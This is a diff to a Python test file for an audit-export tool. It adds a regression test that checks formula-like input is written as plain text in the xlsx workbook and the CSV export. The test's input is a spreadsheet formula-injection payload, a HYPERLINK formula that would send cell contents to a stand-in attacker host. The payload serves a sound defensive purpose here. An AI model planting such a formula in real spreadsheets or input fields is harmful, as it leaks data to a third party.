@@ -2,6 +2,7 @@
 actors; events; mapping and policy versions with change notes; exceptions; lineage; and a workbook and
 report formatted for people (amounts, percentages, times, accounts by number and name, no JSON blobs)."""
 
+import csv
 from datetime import UTC, date, datetime
 
 from openpyxl import load_workbook
@@ -110,3 +111,31 @@ def test_the_report_formats_amounts_percentages_and_times_and_labels_its_chart(c
     assert "<h2>Approvals</h2>" in html
     assert "<h2>Exceptions: suspense, quarantined input rows, alerts</h2>" in html
     assert ">7.50<" in html  # the suspense, in the exceptions table
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"see the invoice")'
+
+
+def test_a_value_that_looks_like_a_formula_is_text_in_the_workbook_and_the_csv(cli_world: CliWorld):
+    """Names typed by people and providers (an approver's `--by`, a change note, a provider account, a
+    quarantined file's name) land in cells of their own: one that starts with `=` became a live formula in
+    the auditor's workbook (openpyxl writes such a string as a formula) and in Excel's reading of the CSV.
+    Both now hold it as the text it is."""
+    world = cli_world
+    world.write("policies.yaml", policies(posting_mode="approve"))
+    world.source.set("1200.00", date(2026, 10, 3))
+    world.night(date(2026, 10, 31))
+    world.run("approve", "TB-AC-261003-001", "--by", FORMULA)
+    out = world.tmp / "out"
+    world.run("audit", "export", "--period", "2026-10", "--format", "xlsx", "--out", str(out))
+    world.run("audit", "export", "--period", "2026-10", "--format", "csv", "--out", str(out))
+
+    book = load_workbook(out / "tokenbooks-audit-acme-us-2026-10.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    [approval] = _sheet(book, "approvals")
+    assert approval["approved_by"] == FORMULA  # the text as typed, exactly
+
+    fields = [field for path in out.glob("*.csv") for row in csv.reader(path.open()) for field in row]
+    assert "'" + FORMULA in fields  # a spreadsheet shows it as text; the quote says why
+    assert [f for f in fields if f[:1] in ("=", "+", "@")] == []
